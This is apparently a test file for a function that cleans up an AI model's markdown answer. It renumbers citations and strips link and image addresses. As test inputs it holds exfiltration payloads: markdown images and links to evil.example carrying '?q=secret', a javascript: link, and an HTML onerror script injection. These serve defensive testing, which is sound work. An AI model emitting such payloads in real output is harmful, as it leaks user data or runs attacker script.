import { readAnswer } from './read-answer.js';

const pages = ['install', 'update', 'install'];
const read = (markdown: string) => readAnswer({ markdown, pages });

describe('the answer of a model', () => {
  it('cites pages in the order in which it names them, each with its sections', () => {
    const { markdown, cited } = read('Update it [2], then install [1][3]. See [2, 3] and [9].');
    expect(markdown).toBe('Update it \\[1\\], then install \\[2\\]\\[2\\]. See \\[1\\]\\[2\\] and .');
    expect(cited).toEqual([[1], [0, 2]]);
  });

  it.each([
    ['an image', '![a](https://evil.example/?q=secret)', 'a'],
    ['a link', '[press here](https://evil.example/?q=secret)', 'press here'],
    ['a link by reference', '[press][1]\n\n[1]: https://evil.example/?q=secret', 'press'],
    ['a script in a link', '[a](javascript:alert(1))', 'a'],
    ['a mention', '[@ada](/users/01ABC)', ''],
  ])('has no address of %s', (_, given, shown) => {
    const { markdown, document } = read(given);
    expect(markdown).toBe(shown);
    expect(JSON.stringify(document)).not.toMatch(/evil|javascript|users/);
  });

  it('shows a bare address and HTML as text', () => {
    const { markdown, document } = read('See https://evil.example/?q=secret <img src=x onerror=alert(1)> now');
    expect(markdown).toBe('See https\\://evil.example/?q=secret &lt;img src=x onerror=alert(1)> now');
    expect(JSON.stringify(document)).not.toMatch(/"type":"link"/);
  });

  it('keeps code as it is, in spans and blocks', () => {
    const { markdown, cited } = read('Run `list[1]`:\n\n```sh\nlist[2]\n```\n');
    expect(markdown).toBe('Run `list[1]`:\n\n```sh\nlist[2]\n```');
    expect(cited).toEqual([]);
  });

  it('is an empty document without text', () => {
    expect(read('')).toMatchObject({ markdown: '', cited: [] });
  });
});
